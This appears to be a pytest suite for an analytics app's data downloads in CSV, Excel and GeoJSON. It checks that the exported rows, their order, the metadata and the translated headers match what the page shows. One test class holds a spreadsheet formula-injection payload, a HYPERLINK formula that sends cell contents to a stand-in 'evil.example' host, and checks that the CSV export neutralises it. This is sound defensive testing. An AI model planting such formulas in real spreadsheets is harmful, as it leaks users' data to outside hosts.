"""Downloads read back: each format, parsed again, gives the rows the page shows and says where they came from.

The rows a page shows come from `queries.initiative_list` (Explorer) and `queries.map_points`
(Map); a download must hold all of them, in the same order, verbatim, whatever the filters.
"""

from __future__ import annotations

import datetime as dt
import io
import json
from urllib.parse import parse_qs

import openpyxl
import pandas
import polars as pl
import pytest
from polars.testing import assert_frame_equal

from analytics.reference import taxonomy
from analytics.serving import downloads, queries
from analytics.serving.filters import Filters
from tests.fixture_registry import XSS_NAME

VIEWS = [
    pytest.param(Filters(), "", "registered_on", True, id="whole registry"),
    pytest.param(Filters(countries=("CO",)), "", "name", False, id="one country by name"),
    pytest.param(Filters(sectors=("agri", "tourism"), statuses=("registered", "validated")), "", "member_firms", True,
                 id="sectors and statuses"),
    pytest.param(Filters(registered_from=dt.date(2024, 1, 1), founded_to=2020), "medellin", "city", False,
                 id="dates, years and an accent-free search"),
    pytest.param(Filters(countries=("BR",)), "", "registered_on", True, id="nothing matches"),
]


def shown_rows(db, filters, search, sort, descending) -> pl.DataFrame:
    """What the Explorer lists, every page of it (the fixture has 12 rows, under one page of the maximum size)."""
    return queries.initiative_list(db, filters, search=search, sort=sort, descending=descending,
                                   page_size=queries.MAX_PAGE_SIZE).drop("total_rows")


def vintage(db) -> dict:
    return queries.build_info(db).row(0, named=True)


class TestCsv:
    @staticmethod
    def written(db, filters: Filters | None = None, **view) -> tuple[pl.DataFrame, bytes, bytes]:
        frame, meta = downloads.initiatives(db, filters or Filters(), **view)
        return frame, downloads.to_csv(frame, meta), downloads.metadata_csv(meta)

    @pytest.mark.parametrize(("filters", "search", "sort", "descending"), VIEWS)
    def test_read_back_gives_the_listed_rows_in_order(self, db, filters, search, sort, descending):
        _, data, sidecar = self.written(db, filters, search=search, sort=sort, descending=descending)
        back, read_meta = downloads.read_csv_export(data, sidecar)
        expected = shown_rows(db, filters, search, sort, descending)
        # the same rows, same order, same values; integer widths may differ after a text round trip
        assert_frame_equal(back.select(expected.columns), expected, check_dtypes=False)
        assert read_meta["rows"] == str(expected.height)

    def test_the_header_is_the_first_line_after_a_byte_order_mark(self, db):
        frame, data, _ = self.written(db)
        assert data.startswith(b"\xef\xbb\xbf")  # UTF-8's byte-order mark: Excel then reads the file as UTF-8
        first_line = data[3:].decode("utf-8").splitlines()[0]
        assert first_line == ",".join(f'"{column}"' for column in frame.columns)
        assert b"\n#" not in data and not data[3:].startswith(b"#")

    @pytest.mark.parametrize("reader", ["pandas", "polars"])
    def test_pandas_and_polars_read_it_with_no_options(self, db, reader):
        frame, data, _ = self.written(db)
        if reader == "pandas":
            back = pl.from_pandas(pandas.read_csv(io.BytesIO(data)))
        else:
            back = pl.read_csv(io.BytesIO(data))
        # every column under its own name (no byte-order mark glued to the first), every row, accents intact
        assert back.columns == frame.columns
        assert back["id"].to_list() == frame["id"].to_list()
        assert back["name"].to_list() == frame["name"].to_list()
        assert "Test software cluster Bogotá" in back["name"].to_list()
        assert back["registered_on"].cast(pl.String).to_list() == [day.isoformat() for day in frame["registered_on"]]

    def test_the_injection_name_is_kept_verbatim(self, db):
        _, data, _ = self.written(db, Filters(countries=("CO",)))
        back, _ = downloads.read_csv_export(data)
        row = back.filter(pl.col("id") == "CO-05").row(0, named=True)
        assert row["name"] == XSS_NAME
        assert row["managing_entity"] == XSS_NAME

    def test_metadata_names_the_filters_and_the_vintage(self, db):
        filters = Filters(countries=("CO", "MX"), sectors=("agri",), registered_from=dt.date(2024, 1, 1))
        _, data, sidecar = self.written(db, filters, search="bogota", sort="name", descending=False)
        _, read_meta = downloads.read_csv_export(data, sidecar)
        # the filter line is a URL query: parsed by the app it gives back the same filters
        assert Filters.from_query_params({k: v[0] for k, v in parse_qs(read_meta["filters"]).items()}) == filters
        assert (read_meta["search"], read_meta["sort"]) == ("bogota", "name ascending")
        info = vintage(db)
        assert read_meta["data_built_at"] == info["built_at"].isoformat()
        assert read_meta["data_checksum_sha256"] == info["source_checksum"]
        assert read_meta["data_synthetic"] == "false"
        assert "notice" not in read_meta
        # the export's folder name, not the server's directory layout
        assert "/" not in read_meta["data_source"] and read_meta["data_source"]

    def test_the_sidecar_opens_with_no_options_too(self, db):
        frame, _, sidecar = self.written(db)
        pairs = pandas.read_csv(io.BytesIO(sidecar), keep_default_na=False)
        assert list(pairs.columns) == ["key", "value"]
        assert dict(zip(pairs["key"], pairs["value"], strict=True))["rows"] == str(frame.height)
        assert pl.read_csv(io.BytesIO(sidecar)).columns == ["key", "value"]

    def test_awkward_values_survive(self, db):
        """A row starting with `#`, a line break inside a name, a search with a line break in the sidecar."""
        frame = pl.DataFrame({"id": ["#1", "X-2"], "name": ["first\nsecond line", "# not a comment"]})
        meta = downloads.metadata(db, Filters(), "initiatives", frame.height, extra={"search": "two\nlines"})
        data, sidecar = downloads.to_csv(frame, meta), downloads.metadata_csv(meta)
        assert_frame_equal(pl.read_csv(io.BytesIO(data)), frame)
        assert pl.from_pandas(pandas.read_csv(io.BytesIO(data))).equals(frame)
        back, read_meta = downloads.read_csv_export(data, sidecar)
        assert_frame_equal(back, frame)
        assert read_meta["search"] == "two\nlines"

    def test_synthetic_data_says_so(self, db):
        frame, meta = downloads.initiatives(db, Filters())
        synthetic = downloads.Metadata(**{**meta.__dict__, "synthetic": True})
        _, read_meta = downloads.read_csv_export(downloads.to_csv(frame, synthetic), downloads.metadata_csv(synthetic))
        assert read_meta["data_synthetic"] == "true"
        assert "Synthetic" in read_meta["notice"]

    def test_the_sidecar_is_named_after_the_csv(self, db):
        frame, meta = downloads.initiatives(db, Filters())
        csv, sidecar = downloads.build("csv", frame, meta, "iapt-initiatives"), downloads.build_metadata(meta, "iapt-initiatives")
        assert sidecar.file_name == csv.file_name.removesuffix(".csv") + "-metadata.csv"


class TestExcel:
    @staticmethod
    def sheet_rows(data: bytes, name: str) -> list[tuple]:
        workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
        return [tuple(row) for row in workbook[name].iter_rows(values_only=True)]

    @pytest.mark.parametrize(("filters", "search", "sort", "descending"), VIEWS)
    def test_read_back_gives_the_listed_rows_in_order(self, db, filters, search, sort, descending):
        frame, meta = downloads.initiatives(db, filters, search=search, sort=sort, descending=descending)
        data = downloads.to_xlsx(frame, meta)
        header, *rows = self.sheet_rows(data, "initiatives")
        expected = shown_rows(db, filters, search, sort, descending)
        assert list(header[: expected.width]) == expected.columns
        for cells, row in zip(rows, expected.iter_rows(), strict=True):
            # dates come back as midnight datetimes, numbers as numbers, text as text
            read = [cell.date() if isinstance(cell, dt.datetime) else cell for cell in cells[: expected.width]]
            assert read == list(row)

    def test_metadata_sheet(self, db):
        filters = Filters(statuses=("validated",))
        frame, meta = downloads.initiatives(db, filters)
        header, *pairs = self.sheet_rows(downloads.to_xlsx(frame, meta), downloads.METADATA_SHEET)
        assert header == ("key", "value")
        read = {key: value for key, value in pairs}
        assert read["filters"] == "status=validated"
        assert read["rows"] == "6"
        assert read["data_checksum_sha256"] == vintage(db)["source_checksum"]
        assert [key for key, _ in pairs] == [key for key, _ in meta.pairs()]

    def test_text_that_looks_like_a_formula_or_a_link_stays_text(self, db):
        frame = pl.DataFrame({"id": ["A", "B", "C"], "name": ["=HYPERLINK(\"http://x\")", "https://example.org", "007"]})
        meta = downloads.metadata(db, Filters(), "initiatives", frame.height)
        workbook = openpyxl.load_workbook(io.BytesIO(downloads.to_xlsx(frame, meta)))
        cells = [workbook["initiatives"].cell(row, 2) for row in (2, 3, 4)]
        assert [cell.value for cell in cells] == frame["name"].to_list()
        assert {cell.data_type for cell in cells} == {"s"}
        assert not any(cell.hyperlink for cell in cells)

    def test_the_injection_name_is_kept_verbatim(self, db):
        frame, meta = downloads.initiatives(db, Filters(countries=("CO",)))
        header, *rows = self.sheet_rows(downloads.to_xlsx(frame, meta), "initiatives")
        names = [row[header.index("name")] for row in rows]
        assert XSS_NAME in names


class TestGeoJson:
    @pytest.mark.parametrize("filters", [Filters(), Filters(countries=("MX", "CL")), Filters(types=("cluster",)),
                                         Filters(countries=("BR",))])
    def test_read_back_gives_the_map_points_in_order(self, db, filters):
        frame, meta = downloads.points(db, filters)
        collection = json.loads(downloads.to_geojson(frame, meta))
        expected = queries.map_points(db, filters)
        assert collection["type"] == "FeatureCollection"
        features = collection["features"]
        assert [feature["id"] for feature in features] == expected["id"].to_list()
        for feature, row in zip(features, expected.iter_rows(named=True), strict=True):
            # RFC 7946: longitude first
            assert feature["geometry"] == {"type": "Point", "coordinates": [row["longitude"], row["latitude"]]}
            properties = {key: value for key, value in row.items() if key not in ("latitude", "longitude")}
            assert {key: feature["properties"][key] for key in properties} == properties

    def test_collection_and_features_carry_the_vintage(self, db):
        filters = Filters(countries=("CO",), sectors=("tourism",))
        frame, meta = downloads.points(db, filters)
        collection = json.loads(downloads.to_geojson(frame, meta))
        properties = collection["properties"]
        assert properties["filters"] == {"country": "CO", "sector": "tourism"}
        assert properties["filters_query"] == "country=CO&sector=tourism"
        assert properties["rows"] == 1 and properties["rows_without_position"] == 0
        assert properties["data_checksum_sha256"] == vintage(db)["source_checksum"]
        assert properties["data_synthetic"] is False
        (feature,) = collection["features"]
        assert feature["properties"]["name"] == XSS_NAME
        assert feature["properties"]["data_built_at"] == vintage(db)["built_at"].isoformat()
        assert feature["properties"]["synthetic"] is False

    def test_rows_without_a_position_are_counted_not_written(self, db):
        frame = pl.DataFrame({"id": ["A", "B"], "latitude": [1.0, None], "longitude": [2.0, None]})
        meta = downloads.metadata(db, Filters(), "initiatives as points", frame.height)
        collection = json.loads(downloads.to_geojson(frame, meta))
        assert [feature["id"] for feature in collection["features"]] == ["A"]
        assert collection["properties"]["rows_without_position"] == 1


class TestFiles:
    @pytest.mark.parametrize(("fmt", "media_type"), [("csv", "text/csv"), ("geojson", "application/geo+json"),
                                                    ("xlsx", downloads.MEDIA_TYPES["xlsx"])])
    def test_named_and_typed(self, db, fmt, media_type):
        frame, meta = downloads.points(db, Filters())
        file = downloads.build(fmt, frame, meta, "iapt-initiatives")
        assert file.file_name == f"iapt-initiatives-{meta.exported_at:%Y-%m-%d}.{fmt}"
        assert file.media_type == media_type
        assert file.data

    def test_unknown_format(self, db):
        frame, meta = downloads.points(db, Filters())
        with pytest.raises(ValueError, match="pdf"):
            downloads.build("pdf", frame, meta, "x")


class TestInLanguage:
    NAMES = {"CO": "Colombia", "MX": "México"}

    def frame(self) -> pl.DataFrame:
        return pl.DataFrame({"id": ["CO-01", "MX-01"], "type": ["cluster", "business_network"], "country": ["CO", "MX"],
                             "sectors": ["agri;digital", None], "member_firms": [6, 0]})

    def test_spanish_headers_with_each_code_beside_its_name(self):
        shown = downloads.in_language(self.frame(), "es", self.NAMES)
        assert shown.columns == ["Identificador", "Tipo (código)", "Tipo", "País (código)", "País",
                                 "Sectores dinamizadores (código)", "Sectores dinamizadores", "Empresas miembro"]
        assert shown["Tipo (código)"].to_list() == ["cluster", "business_network"]
        assert shown["Tipo"][0] == taxonomy.label("type", "cluster", "es")
        assert shown["País"].to_list() == ["Colombia", "México"]
        # a list of codes keeps its codes and names each one; an empty list stays empty
        assert shown["Sectores dinamizadores"][0] == "; ".join(taxonomy.label("eclac_sector", code, "es")
                                                                for code in ("agri", "digital"))
        assert shown["Sectores dinamizadores"][1] is None
        assert shown["Empresas miembro"].to_list() == [6, 0]

    def test_every_column_of_every_download_has_a_header_in_three_languages(self, db):
        for frame in (downloads.initiatives(db, Filters())[0], downloads.points(db, Filters())[0]):
            for lang in ("en", "es", "pt"):
                shown = downloads.in_language(frame, lang, {})
                assert len(set(shown.columns)) == len(shown.columns) == frame.width + sum(
                    column in downloads.CODE_COLUMNS for column in frame.columns)

    def test_a_localised_csv_reads_back(self, db):
        frame, meta = downloads.initiatives(db, Filters(countries=("CO",)))
        back, _ = downloads.read_csv_export(downloads.to_csv(downloads.in_language(frame, "pt", {"CO": "Colômbia"}), meta))
        assert set(back["País"]) == {"Colômbia"} and back["Identificador"].to_list() == frame["id"].to_list()


class TestFormulaCells:
    """A name typed as a spreadsheet formula is text in the CSV and its sidecar (analytics/safe_csv.py)."""

    ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

    def test_the_csv_neutralises_and_raw_keeps_it(self, db):
        frame, meta = downloads.initiatives(db, Filters(countries=("CO",)))
        frame = frame.with_columns(pl.lit(self.ATTACK).alias("name"))
        back, _ = downloads.read_csv_export(downloads.to_csv(frame, meta))
        assert set(back["name"]) == {"'" + self.ATTACK}
        assert back["latitude"].dtype == pl.Float64  # numbers stay numbers, negative ones included
        raw, _ = downloads.read_csv_export(downloads.to_csv(frame, meta, raw=True))
        assert set(raw["name"]) == {self.ATTACK}

    def test_a_search_in_the_sidecar_is_neutralised(self, db):
        frame, meta = downloads.initiatives(db, Filters(), search="-1+1")
        _, read_meta = downloads.read_csv_export(downloads.to_csv(frame, meta), downloads.metadata_csv(meta))
        assert read_meta["search"] == "'-1+1"
